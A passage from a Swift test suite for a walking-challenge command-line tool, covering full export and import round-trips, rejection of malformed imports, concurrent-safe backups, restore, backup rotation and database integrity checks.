        cli.ok([
          "log", "\(base + Double(index) * 0.37)km", "--member", handle, "--as", handle, "--date",
          day, "--duration", "47m",
        ])
      }
    }
    let extra = J.object(try cli.json(["log", "20km", "--as", "bob", "--date", "2026-03-10"]))
    cli.ok(["walks", "delete", String(J.int(extra["id"]) ?? -1)])
    cli.ok([
      "import", "gpx", FileFixtures.path("applewatch_friday_run_extensions.gpx"), "--member", "cat",
    ])
    let csv = try cli.write(
      "more.csv",
      "member,date,distance,note,external_id\nann,2026-03-12,0.30000000000000004km,=1+1,x-1\ndan,2026-03-13,7.77,,\n"
    )
    cli.ok(["import", "walks", csv])
    cli.ok(["member", "remove", "dan"])
  }

  @Test func exportAllThenImportAllReproducesEveryReport() throws {
    // Given
    let cli = try CLI()
    try Self.buildWorld(cli)
    cli.ok(["export", "all", "--output", "all.json"])
    let copy = cli.path("copy.db")
    cli.initDatabase(copy)

    // When
    let imported = cli.ok(["--db", copy, "import", "all", "all.json"])
    let twice = cli.run(["--db", copy, "import", "all", "all.json"])

    // Then
    #expect(imported.contains("imported 4 members, 2 teams"), "\(imported)")
    #expect(twice.code == 65, "import all needs an empty database: \(twice.stderr)")
    let reports: [[String]] = [
      ["export", "all"],
      ["leaderboard", "--teams", "--format", "json"],
      ["leaderboard", "--teams", "--period", "month", "--format", "json"],
      ["leaderboard", "--teams", "--by", "average", "--format", "json"],
      ["leaderboard", "--teams", "--from", "2026-02-10", "--to", "2026-03-06", "--format", "json"],
      ["leaderboard", "--team", "Kiwis", "--format", "json"],
      ["leaderboard", "--team", "Owls", "--period", "week", "--by", "walks", "--format", "json"],
      ["leaderboard", "--goal", "Race", "--format", "json"],
      ["leaderboard", "--goal", "Pool", "--format", "json"],
      ["progress", "Race", "--format", "json"],
      ["progress", "Pool", "--format", "json"],
      ["progress", "Gone", "--format", "json"],
      ["goal", "list", "--all", "--format", "json"],
      ["walks", "--limit", "1000", "--format", "json"],
      ["stats", "--team", "Owls", "--format", "json"],
      ["stats", "--member", "ann", "--format", "json"],
      ["member", "list", "--format", "json"],
      ["team", "show", "Owls", "--format", "json"],
      ["route", "show", "Cape", "--format", "json"],
      ["leaderboard", "--teams"],
      ["progress", "Race"],
    ]
    for args in reports {
      let original = cli.run(args)
      let restored = cli.run(["--db", copy] + args)
      #expect(original.code == 0, "\(args): \(original.stderr)")
      #expect(restored.stdout == original.stdout, "\(args.joined(separator: " ")) differs")
      #expect(restored.code == original.code)
    }
    // The imported database still refuses duplicate GPX and CSV imports.
    let gpx = cli.ok([
      "--db", copy, "import", "gpx", FileFixtures.path("applewatch_friday_run_extensions.gpx"),
      "--member", "cat",
    ])
    #expect(gpx.contains("imported 0 walks"), "\(gpx)")
  }

  @Test func importAllRefusesBrokenDocuments() throws {
    let cli = try CLI()
    let broken = try cli.write("broken.json", "{\"format\": \"milequest-export\", ")
    let foreign = try cli.write("foreign.json", "{\"members\": []}")
    let first = cli.run(["import", "all", broken])
    let second = cli.run(["import", "all", foreign])
    let missing = cli.run(["import", "all", cli.path("none.json")])
    #expect(first.code == 65, "\(first.stderr)")
    #expect(second.code == 65, "\(second.stderr)")
    #expect(missing.code == 66, "\(missing.stderr)")
  }

  // MARK: Backup, restore, check

  @Test func backupWhileOthersWriteIsConsistent() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    cli.ok(["member", "add", "bob"])
    for day in 1...9 { cli.ok(["log", "2", "--as", "ann", "--date", "2026-03-0\(day)"]) }
    let shared = SharedCLI(cli: cli)
    let results = Collected()
    let group = DispatchGroup()

    // When: two writers log walks while a backup runs.
    for handle in ["ann", "bob"] {
      DispatchQueue.global().async(group: group) {
        for i in 0..<8 {
          results.append(
            shared.cli.run([
              "log", "\(1 + Double(i) / 10)", "--as", handle, "--date", "2026-03-1\(i % 5)",
            ]))
        }
      }
    }
    Thread.sleep(forTimeInterval: 0.1)
    let backup = cli.run(["backup", "snap.db"])
    group.wait()

    // Then
    #expect(backup.code == 0, "\(backup.stderr)")
    let writes = results.all
    #expect(writes.count == 16)
    #expect(writes.allSatisfy { $0.code == 0 || $0.code == 75 }, "\(writes.map { $0.stderr })")
    let snapshot = cli.path("snap.db")
    let check = cli.run(["--db", snapshot, "check"])
    #expect(check.code == 0, "\(check.stderr)")
    #expect(check.stdout.hasPrefix("ok"), "\(check.stdout)")
    let copied = J.array(try cli.json(["--db", snapshot, "walks", "--limit", "1000"])).count
    let final = J.array(try cli.json(["walks", "--limit", "1000"])).count
    #expect(copied >= 9 && copied <= final)
    #expect(final == 9 + writes.filter { $0.code == 0 }.count)
    let attributes = try FileManager.default.attributesOfItem(atPath: snapshot)
    #expect((attributes[.posixPermissions] as? NSNumber)?.intValue == 0o600)
  }

  @Test func backupFileModeAndOverwrite() throws {
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    cli.ok(["backup", "b.db"])
    let mode =
      (try FileManager.default.attributesOfItem(atPath: cli.path("b.db"))[.posixPermissions]
      as? NSNumber)?.intValue
    #expect(mode == 0o600, "mode \(String(mode ?? -1, radix: 8))")
    let exists = cli.run(["backup", "b.db"])
    #expect(exists.code == 73, "\(exists.stderr)")
    cli.ok(["backup", "b.db", "--yes"])
    #expect(J.array(try cli.json(["--db", cli.path("b.db"), "member", "list"])).count == 1)
  }

  @Test func restoreReplacesAndKeepsTheReplacedDatabase() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    cli.ok(["log", "3", "--as", "ann", "--date", "2026-03-01"])
    cli.ok(["backup", "b.db"])
    cli.ok(["log", "4", "--as", "ann", "--date", "2026-03-02"])
    let garbage = try cli.write("garbage.db", String(repeating: "not a database\n", count: 400))
    let beforeBad = cli.dbBytes()

    // When
    let bad = cli.run(["restore", garbage])
    let missing = cli.run(["restore", cli.path("nope.db")])
    let unchanged = cli.dbBytes()
    let restored = cli.run(["restore", "b.db", "--yes"])

    // Then
    #expect(bad.code == 65, "\(bad.code) \(bad.stderr)")
    #expect(missing.code == 66, "\(missing.stderr)")
    #expect(unchanged == beforeBad)
    #expect(restored.code == 0, "\(restored.stderr)")
    #expect(try cli.walkList().map { J.double($0["distance_m"]) } == [3 * 1609.344])
    let kept = try FileManager.default.contentsOfDirectory(atPath: cli.directory.path)
      .filter { $0.hasPrefix("t.db.replaced-") && !$0.hasSuffix("-wal") && !$0.hasSuffix("-shm") }
    try #require(kept.count == 1, "\(kept)")
    #expect(restored.stdout.contains(kept[0]))
    let old = J.array(try cli.json(["--db", cli.path(kept[0]), "walks"]))
    #expect(old.count == 2, "the replaced database keeps the newer walk")
    #expect(cli.run(["check"]).code == 0)
  }

  @Test func rotateKeepsSevenDailyCopies() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    let xdg = cli.path("xdg")
    let backups = xdg + "/milequest/backups"
    try FileManager.default.createDirectory(atPath: backups, withIntermediateDirectories: true)
    for day in 1...9 {
      try CLI.createFile(backups + "/milequest-2026-01-0\(day).db", Data("old".utf8))
    }
    try CLI.createFile(backups + "/notes.txt", Data("keep me".utf8))

    // When
    let result = cli.run(["backup", "--rotate"], env: ["XDG_DATA_HOME": xdg])
    let second = cli.run(["backup", "--rotate", "--yes"], env: ["XDG_DATA_HOME": xdg])

    // Then
    #expect(result.code == 0, "\(result.stderr)")
    #expect(second.code == 0, "\(second.stderr)")
    let left = try FileManager.default.contentsOfDirectory(atPath: backups).sorted()
    let copies = left.filter { $0.hasPrefix("milequest-") && $0.hasSuffix(".db") }
    #expect(copies.count == 7, "\(left)")
    #expect(copies == (4...9).map { "milequest-2026-01-0\($0).db" } + ["milequest-2026-03-15.db"])
    #expect(left.contains("notes.txt"))
    let today = backups + "/milequest-2026-03-15.db"
    #expect(
      (try FileManager.default.attributesOfItem(atPath: today)[.posixPermissions] as? NSNumber)?
        .intValue == 0o600)
    #expect(cli.run(["--db", today, "check"]).code == 0)
  }

  @Test func checkReportsIntegrityAndSchema() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    cli.ok(["log", "3", "--as", "ann", "--date", "2026-03-01"])

    // When
    let text = cli.ok(["check"])
    let json = J.object(try cli.json(["check"]))

    // Then
    #expect(text.hasPrefix("ok\n"), "\(text)")
    #expect(text.contains("schema"))
    #expect(json["ok"] as? Bool == true)
    #expect(!(J.string(json["schema_version"]) ?? "").isEmpty)
    #expect(J.array(json["problems"]).isEmpty)
    let counts = J.object(json["counts"])
    #expect(J.int(counts["member"]) == 1, "\(counts)")
    #expect(J.int(counts["walk"]) == 1, "\(counts)")
    let notDB = try cli.write("text.db", String(repeating: "hello\n", count: 1000))
    let bad = cli.run(["--db", notDB, "check"])
    #expect(bad.code != 0, "\(bad.stdout)")
  }
}
